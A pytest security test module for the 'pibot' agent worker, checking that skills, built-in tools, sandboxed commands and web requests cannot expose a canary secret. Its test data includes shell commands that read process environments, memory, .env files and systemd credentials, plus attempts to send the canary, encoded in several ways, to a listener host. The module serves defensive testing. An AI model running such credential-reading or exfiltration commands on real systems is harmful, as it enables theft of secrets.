"""Attacks on secrets: every path out of a worker is tried with a secret that the worker has.

First the skills alone, as root and as an ordinary user; then a whole worker in a fleet with
credentials, of which every byte is read that it sends: through the broker, to its model, to the
web, to its log and on /health.
"""

from __future__ import annotations

import json
import shutil
import sqlite3
import subprocess
from pathlib import Path
from typing import Any, Dict, Iterator, List

import pytest

from fleet_processes import free_port, program, wait_for
from pibot.secrets import HIDDEN
from security import leaks
from security.exposure import exposed
from security.hands import CANARY, USER, Hands
from security.listener import Listener

FILE = "notes.txt"


# --- the skill of a careless or malicious author --------------------------------------------------


@pytest.fixture
def own_skills(hands: Hands) -> Path:
    folder = hands.folder / "skills"
    folder.mkdir()
    (folder / "leaks.py").write_text(leaks.SOURCE)
    hands.give(folder, folder / "leaks.py")
    return folder


@pytest.mark.parametrize("way", [way for way in leaks.WAYS if way not in leaks.LOGS])
def test_a_skill_cannot_say_a_secret(hands: Hands, own_skills: Path, way: str) -> None:
    done = hands.call("leak", {"how": way}, skills_dir=own_skills)
    assert not exposed(done, CANARY)
    if way in leaks.FILES:
        assert done["shared"] == ([leaks.CHANGED] if way == "shared file that changes" else [])
    elif way not in ("own environ", "not JSON"):  # nobody but root can read it; it is not told
        assert HIDDEN in json.dumps(done), done


def test_a_plain_program_of_a_skill_cannot_read_the_workers_environment(
    hands: Hands, own_skills: Path
) -> None:
    """Only root reads it, as it reads everything: so the services have a user of their own."""
    (own_skills / "child.py").write_text(
        "import os, subprocess\n"
        "from pibot.skills import skill\n"
        "@skill()\n"
        "def look() -> dict:\n"
        '    """Look at the worker that started this."""\n'
        "    told = ['environ', 'mem', 'maps', 'cwd', 'fd']\n"
        "    words = [f'cat /proc/{os.getpid()}/{what} 2>&1; ls -l /proc/{os.getpid()}/{what}'\n"
        "             for what in told]\n"
        "    done = subprocess.run(['sh', '-c', '; '.join(words)], capture_output=True,"
        " env={'PATH': os.environ['PATH']})\n"
        "    raw = done.stdout\n"
        f"    return {{'found': {CANARY[:12]!r}.encode() in raw, 'denied': raw.count(b'denied')}}\n"
    )
    hands.give(own_skills / "child.py")
    data = hands.call("look", {}, skills_dir=own_skills)["data"]
    if hands.user == USER and not hands.is_root:
        assert data["found"] is False and data["denied"] >= 4


@pytest.mark.parametrize("role", ["worker", "master"])
def test_a_service_lets_no_program_of_its_user_look_into_it(hands: Hands, role: str) -> None:
    pyz, log = hands.folder / "pibot.pyz", hands.folder / "log"
    shutil.copyfile(program(), pyz)
    (hands.folder / "none.env").touch(0o600)
    log.touch()
    hands.give(pyz, log, hands.folder / "none.env")
    env = {"HOME": str(hands.folder), "SHIV_ROOT": str(hands.folder / "shiv"), "PATH": "/usr/bin",
           "PIBOT_HTTP_TOKEN": CANARY, "PIBOT_STATE_DIR": str(hands.folder / "state"),
           "MQTT_HOST": "127.0.0.1", "MQTT_PORT": str(free_port())}  # fmt: skip
    words = [*hands.process.become, hands.process.python, "-I", str(pyz), "--role", role]
    words += ["--port", str(free_port()), "--env-file", str(hands.folder / "none.env")]
    with log.open("ab") as file:
        service = subprocess.Popen(words, env=env, stdout=file, stderr=file, cwd=hands.folder)
    try:
        wait_for(lambda: "127.0.0.1" in log.read_text(), 60, why=log.read_text)
        look = f"tr '\\0' '\\n' < /proc/{service.pid}/environ; ls -l /proc/{service.pid}/fd/"
        look = [*hands.process.become, "sh", "-c", look]
        seen = subprocess.run(look, capture_output=True, cwd="/").stdout
    finally:
        service.kill()
        service.wait()
    assert hands.is_root or seen == b""


# --- the built-in skills --------------------------------------------------------------------------


@pytest.fixture(scope="module")
def listener() -> Iterator[Listener]:
    server = Listener()
    yield server
    server.close()


def put(hands: Hands, name: str, content: bytes) -> None:
    path = hands.workspace / name
    path.write_bytes(content)
    hands.give(path)


def database(hands: Hands) -> None:
    path = hands.workspace / "a.db"
    with sqlite3.connect(path) as base:
        base.execute("create table t (a)")
        base.execute("insert into t values (?)", (f"it is {CANARY}",))
    base.close()
    hands.give(path)


ECHOES: Dict[str, "tuple[str, Dict[str, Any]]"] = {
    "an argument comes back": ("echo", {"text": f"say {CANARY}"}),
    "an unknown skill's name": (CANARY, {}),
    "an unknown argument's name": ("echo", {"text": "a", CANARY: 1}),
    "an argument of the wrong type": ("read_file", {"path": FILE, "max_bytes": CANARY}),
    "a file that is not there": ("read_file", {"path": CANARY}),
    "a path that leads outside": ("read_file", {"path": f"../{CANARY}"}),
    "a file's content": ("read_file", {"path": FILE}),
    "a file's name in a list": ("list_files", {"path": "."}),
    "a line that is found": ("search_files", {"pattern": "it is"}),
    "a file's name that is found": ("search_files", {"pattern": CANARY[:9]}),
    "the target of a move": ("move_file", {"source": FILE, "target": f"{CANARY}.txt"}),
    "a row of a database": ("sqlite_query", {"path": "a.db", "sql": "select a from t"}),
    "an error of a database": ("sqlite_query", {"path": "a.db", "sql": f'select "{CANARY}'}),
    "a statement that is echoed": ("sqlite_query", {"path": "a.db", "sql": f"select '{CANARY}'"}),
    "a command's output": ("shell", {"command": f"cat {FILE}"}),
    "a command's error": ("shell", {"command": f"cat {FILE} >&2; exit 3"}),
    "a command that is not found": ("shell", {"command": CANARY}),
    "a command's output in base64": ("shell", {"command": f"base64 -w0 {FILE}"}),
    "a command's output in hex": ("shell", {"command": f"od -An -v -tx1 -w999 {FILE}"}),
    "a program's exception": ("python", {"code": f"raise ValueError(open('{FILE}').read())"}),
    "a program's data": ("python", {"code": f"print([open('{FILE}').read()])"}),
}


@pytest.mark.parametrize("case", ECHOES)
def test_no_built_in_skill_repeats_a_secret(hands: Hands, case: str) -> None:
    put(hands, FILE, f"it is {CANARY}\n".encode())
    put(hands, f"{CANARY}.txt", b"")
    database(hands)
    name, args = ECHOES[case]
    done = hands.call(name, args, permits={"shell": True})
    if f"there is no skill '{name}'" in done["output"] and name != CANARY:
        pytest.skip(f"{name} cannot be had here")
    assert not exposed(done, CANARY)
    assert HIDDEN in json.dumps(done), done


PRIVATE: Dict[str, str] = {
    "its environment": "env; set; cat /proc/self/environ",
    "every environment": "cat /proc/[0-9]*/environ",
    "every command line": "cat /proc/[0-9]*/cmdline",
    "the parent": "cat /proc/$PPID/environ /proc/1/environ; ls -l /proc/$PPID/cwd /proc/1/root/",
    "open files": "ls -l /proc/[0-9]*/fd; timeout 1 cat /proc/[0-9]*/fd/[3-9]*",
    "memory": "timeout 1 dd if=/proc/$PPID/mem bs=1 count=9 skip=4194304; cat /proc/$PPID/maps",
    "settings": "cat /etc/pibot/* ~/.config/pibot/* /root/.config/pibot/* .env ../.env",
    "outside": "cat ../outside/canary ../../*/*/outside/canary; ls -la / /root /home ..",
    "the logs": "cat /var/log/* /run/log/* 2>&1; journalctl -n 9; dmesg",
    "credentials of systemd": "cat /run/credentials/*/* $CREDENTIALS_DIRECTORY/*",
}


@pytest.mark.parametrize("skill", ["shell", "python"])
@pytest.mark.parametrize("place", PRIVATE)
def test_a_command_finds_no_secret(hands: Hands, place: str, skill: str) -> None:
    """Here nothing is taken out of the output: what is not in the sandbox cannot be found."""
    command = f"({PRIVATE[place]}) 2>&1; echo done"
    code = f"import subprocess; print(subprocess.run({command!r}, shell=True, text=True,"
    code += " capture_output=True, errors='replace').stdout)"
    args = {"command": command} if skill == "shell" else {"code": code}
    done = hands.call(skill, args, permits={"shell": True}, secrets=[])
    if f"there is no skill '{skill}'" in done["output"]:
        pytest.skip("there is no sandbox here")
    assert "done" in done["output"], done
    assert not exposed(done, CANARY)
    assert hands.is_outside_unchanged()


def spelled(how: str) -> str:
    import base64
    import urllib.parse

    return {
        "plain": CANARY,
        "base64": base64.urlsafe_b64encode(CANARY.encode()).decode(),
        "hex": CANARY.encode().hex(),
        "escaped": "".join(f"%{byte:02X}" for byte in CANARY.encode()),
        "escaped twice": urllib.parse.quote("".join(f"%{b:02X}" for b in CANARY.encode())),
        "with spaces": "%20".join(CANARY),
        "zero width": urllib.parse.quote("\u200b".join(CANARY)),
    }[how]


SPELLINGS = ["plain", "base64", "hex", "escaped", "escaped twice", "with spaces", "zero width"]


def outgoing(listener: Listener, how: str) -> Dict[str, "tuple[str, Dict[str, Any]]"]:
    url, said = f"http://{listener.host}", spelled(how)
    return {
        "fetch": ("web_fetch", {"url": f"{url}/?k={said}"}),
        "path": ("web_fetch", {"url": f"{url}/{said}/index.html"}),
        "download": ("web_download", {"url": f"{url}/{said}", "path": "a"}),
        "request": ("http_request", {"url": f"{url}/{said}"}),
        "body": ("http_request", {"url": url, "method": "POST", "body": {"a": [said]}}),
        "header": ("http_request", {"url": url, "headers": {"X-A": said}}),
        "message": ("notify", {"message": f"look: {said}"}),
        "title": ("notify", {"message": "look", "title": said[:100]}),
    }


def ways_out() -> List[Any]:
    ways = ["fetch", "path", "download", "request", "body", "header", "message", "title"]
    found = [(way, "plain") for way in ways]
    found += [("fetch", how) for how in SPELLINGS[1:]]
    found += [("body", how) for how in ("base64", "hex")]
    return [pytest.param(way, how, id=f"{way}-{how}") for way, how in found]


@pytest.mark.parametrize("way, how", ways_out())
def test_what_goes_out_holds_no_secret(
    hands: Hands, listener: Listener, way: str, how: str
) -> None:
    permits = {"web_allow": [listener.host, "127.0.0.1"], "hosts": [listener.host]}
    permits["notify_url"] = f"http://{listener.host}/a-topic"  # type: ignore[assignment]
    name, args = outgoing(listener, how)[way]
    before = len(listener.heard)
    done = hands.call(name, args, permits=permits)
    assert not done["success"] and "secret of this machine" in done["output"], done
    assert listener.heard[before:] == []


def test_the_listener_does_hear_what_may_go_out(hands: Hands, listener: Listener) -> None:
    """Else the cases above would prove nothing."""
    permits = {"web_allow": [listener.host], "hosts": [listener.host]}
    for name in ("web_fetch", "http_request"):
        before = len(listener.heard)
        done = hands.call(name, {"url": f"http://{listener.host}/harmless"}, permits=permits)
        assert done["success"], done
        assert b"/harmless" in b"".join(listener.heard[before:])


def test_the_token_of_a_host_goes_there_and_is_not_told(hands: Hands, listener: Listener) -> None:
    token = "token-of-the-house-12345"
    permits = {"hosts": [listener.host], "host_tokens": {listener.host: token}}
    before = len(listener.heard)
    done = hands.call("http_request", {"url": f"http://{listener.host}/"}, permits=permits,
                      secrets=[token])  # fmt: skip
    assert token.encode() in b"".join(listener.heard[before:])
    assert not exposed(done, token)
